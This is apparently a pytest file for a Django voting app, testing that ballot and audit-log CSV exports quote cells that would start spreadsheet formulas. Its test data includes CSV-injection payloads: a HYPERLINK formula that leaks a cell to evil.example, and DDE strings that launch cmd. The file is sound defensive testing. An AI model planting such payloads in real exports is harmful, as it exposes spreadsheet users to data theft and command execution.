"""Every CSV the site writes is safe to open in a spreadsheet: no cell starts a formula (OWASP CSV injection)."""

import csv
import io

import pytest

from deliberation import exports, services
from deliberation.models import Event

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def cells(response):
    """Every cell of a CSV response."""
    return [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_spreadsheet_cell_starting_a_formula_is_quoted(text):
    assert exports.safe_cell(text) == "'" + text
    assert exports.safe_cell("Bus to town") == "Bus to town" and exports.safe_cell(42) == 42
    assert exports.safe_cell("") == "" and exports.safe_cell("a=b") == "a=b"


def test_anyone_downloads_a_ballot_csv_with_formulas_neutralised(client, live, fac_actor, open_vote):
    opened = open_vote(HOSTILE, "Alys")
    ids, vote = opened.ids, opened.round
    services.ballot_enter_paper(actor=fac_actor, session=live, round_id=vote.pk, ranking=ids)
    services.ballot_enter_paper(actor=fac_actor, session=live, round_id=vote.pk, ranking=ids[::-1])
    services.round_close(actor=fac_actor, session=live, round_id=vote.pk)
    services.round_publish(actor=fac_actor, session=live, round_id=vote.pk)
    found = cells(client.get(f"/en/s/{live.code}/results/{vote.pk}.csv"))
    assert not [cell for cell in found if cell.startswith(DANGEROUS)], found
    assert "'" + HOSTILE[1] in found and any(cell.startswith("'=HYPERLINK(") for cell in found)  # kept, as text


def test_facilitator_downloads_an_audit_csv_with_formulas_neutralised(client, live, facilitator, proposal_round):
    proposal_round(HOSTILE, HOSTILE[0][:60])
    # A log row whose text starts a formula, as an older version or a hand-made import could have left it.
    live.refresh_from_db()
    Event.objects.create(session=live, seq=live.last_seq + 1, type="=1+2", payload={}, audience="facilitators")
    client.force_login(facilitator)
    found = cells(client.get(f"/en/s/{live.code}/log.csv"))
    assert not [cell for cell in found if cell.startswith(DANGEROUS)], found
    assert "'=1+2" in found
